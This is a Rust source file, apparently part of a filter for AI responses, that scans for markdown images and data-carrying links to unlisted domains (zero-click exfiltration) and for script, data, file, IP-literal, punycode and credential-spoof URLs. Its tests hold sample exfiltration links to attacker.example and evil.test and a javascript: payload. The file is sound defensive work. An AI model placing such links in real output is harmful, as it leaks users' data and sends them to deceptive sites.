//! URLs in responses: markdown images and data-carrying links to domains off the allowlist
//! (FWL031, zero-click exfiltration), and dangerous URLs (FWL032).

use super::{Finding, Redaction};
use crate::policy::OutputPolicy;
use crate::rules::code;
use regex::Regex;

/// A query value at least this long in a link looks like smuggled data, not a search term.
const LONG_QUERY_VALUE: usize = 20;
/// Links longer than this carry data whatever their shape.
const LONG_URL: usize = 200;

pub struct UrlScanner {
    /// `![alt](url)`, `[text](url)`, `<img src=url>`, `href=url`: group 1 is `!` for images,
    /// group 2 the target.
    targets: Regex,
    html: Regex,
    bare: Regex,
    allow: Vec<String>,
}

impl UrlScanner {
    pub fn new(allow: &[String]) -> UrlScanner {
        UrlScanner {
            targets: Regex::new(r"(!?)\[[^\]\n]{0,500}\]\(\s*<?([^)\s>]{1,4096})").unwrap(),
            html: Regex::new(r#"(?i)<(img|a|iframe|script|source|video|audio)\b[^>]{0,500}?\b(?:src|href)\s*=\s*["']?([^"'\s>]{1,4096})"#)
                .unwrap(),
            bare: Regex::new(r#"(?i)\bhttps?://[^\s<>()\[\]"'`]{1,4096}"#).unwrap(),
            allow: allow.to_vec(),
        }
    }

    fn allowed(&self, host: &str) -> bool {
        self.allow.iter().any(|d| {
            host == d
                || host
                    .strip_suffix(d.as_str())
                    .is_some_and(|p| p.ends_with('.'))
        })
    }

    pub fn scan(&self, text: &str, p: &OutputPolicy, out: &mut Vec<Finding>) {
        if !(text.contains("](") || text.contains("://") || text.contains('<')) {
            return;
        }
        let first = out.len();
        let push = |out: &mut Vec<Finding>, rule, detail, action, span: std::ops::Range<usize>| {
            if !out[first..]
                .iter()
                .any(|f: &Finding| f.span.start < span.end && span.start < f.span.end)
            {
                out.push(Finding::new(
                    rule,
                    detail,
                    action,
                    span,
                    Redaction::Notice("[UNSAFE URL]"),
                ));
            }
        };
        let targets = self.targets.captures_iter(text).map(|c| {
            let is_image = c.get(1).is_some_and(|m| m.as_str() == "!");
            (is_image, c.get(2).unwrap())
        });
        let html = self.html.captures_iter(text).map(|c| {
            let tag = c.get(1).map_or("", |m| m.as_str()).to_ascii_lowercase();
            (tag != "a", c.get(2).unwrap())
        });
        for (auto_loads, m) in targets.chain(html).collect::<Vec<_>>() {
            let url = m.as_str();
            if let Some(d) = dangerous(url) {
                push(out, code::FWL032, d, p.dangerous_urls, m.range());
                continue;
            }
            let Some(host) = host_of(url) else { continue };
            if self.allowed(&host) {
                continue;
            }
            if let Some(d) = dangerous_host(url, &host) {
                push(out, code::FWL032, d, p.dangerous_urls, m.range());
            } else if auto_loads {
                push(
                    out,
                    code::FWL031,
                    "image from a domain not on the allowlist",
                    p.exfil,
                    m.range(),
                );
            } else if carries_data(url) {
                push(
                    out,
                    code::FWL031,
                    "link carrying data to a domain not on the allowlist",
                    p.exfil,
                    m.range(),
                );
            }
        }
        for m in self.bare.find_iter(text) {
            let url = m.as_str();
            let Some(host) = host_of(url) else { continue };
            if !self.allowed(&host)
                && let Some(d) = dangerous_host(url, &host)
            {
                push(out, code::FWL032, d, p.dangerous_urls, m.range());
            }
        }
    }
}

/// Schemes that run code or read local files when followed.
fn dangerous(url: &str) -> Option<&'static str> {
    let lower: String = url
        .chars()
        .take(16)
        .filter(|c| !c.is_whitespace())
        .collect::<String>()
        .to_ascii_lowercase();
    if lower.starts_with("javascript:") || lower.starts_with("vbscript:") {
        Some("script url")
    } else if lower.starts_with("data:") {
        Some("data url")
    } else if lower.starts_with("file:") {
        Some("file url")
    } else {
        None
    }
}

fn dangerous_host(url: &str, host: &str) -> Option<&'static str> {
    let authority = url.split_once("://").map_or("", |(_, r)| r);
    let authority = authority.split(['/', '?', '#']).next().unwrap_or("");
    if authority.contains('@') {
        Some("credentials in url authority")
    } else if host.starts_with('[') || host.parse::<std::net::Ipv4Addr>().is_ok() {
        Some("ip-literal host")
    } else if host.split('.').any(|l| l.starts_with("xn--")) {
        Some("punycode host")
    } else {
        None
    }
}

/// Lower-case host of an http(s) URL (protocol-relative `//host` too).
fn host_of(url: &str) -> Option<String> {
    let rest = if let Some((scheme, rest)) = url.split_once("://") {
        if !scheme.eq_ignore_ascii_case("http") && !scheme.eq_ignore_ascii_case("https") {
            return None;
        }
        rest
    } else {
        url.strip_prefix("//")?
    };
    let authority = rest.split(['/', '?', '#']).next()?;
    let hostport = authority.rsplit('@').next()?;
    let host = if hostport.starts_with('[') {
        hostport.split_inclusive(']').next()?
    } else {
        hostport.split(':').next()?
    };
    (!host.is_empty()).then(|| host.trim_end_matches('.').to_ascii_lowercase())
}

fn carries_data(url: &str) -> bool {
    url.len() > LONG_URL
        || url.split_once('?').is_some_and(|(_, q)| {
            q.split('&')
                .any(|kv| kv.split_once('=').map_or(kv.len(), |(_, v)| v.len()) >= LONG_QUERY_VALUE)
        })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::policy::Policy;

    fn rules(t: &str) -> Vec<&'static str> {
        let mut v = Vec::new();
        UrlScanner::new(&["example.com".to_string()]).scan(t, &Policy::default().output, &mut v);
        v.into_iter().map(|f| f.rule).collect()
    }

    #[test]
    fn hits() {
        assert_eq!(
            rules("![x](https://attacker.example/p.png?d=SGVsbG8)"),
            ["FWL031"]
        );
        assert_eq!(rules("<img src=\"https://evil.test/a.gif\">"), ["FWL031"]);
        assert_eq!(
            rules("[docs](https://evil.test/?q=aGVsbG8gd29ybGQgc2VjcmV0IGRhdGE)"),
            ["FWL031"]
        );
        assert_eq!(rules("[click](javascript:alert(1))"), ["FWL032"]);
        assert_eq!(rules("see https://paypal.com@evil.test/login"), ["FWL032"]);
        assert_eq!(rules("go to http://203.0.113.9/x"), ["FWL032"]);
        assert_eq!(rules("visit https://xn--pypl-loa.com/"), ["FWL032"]);
    }

    #[test]
    fn non_hits() {
        assert!(rules("![logo](https://cdn.example.com/logo.png)").is_empty());
        assert!(rules("[rust](https://www.rust-lang.org/learn)").is_empty());
        assert!(rules("[search](https://duckduckgo.com/?q=rust)").is_empty());
        assert!(rules("JavaScript: the good parts. data: none").is_empty());
        assert!(rules("plain https://docs.rs/regex").is_empty());
    }
}
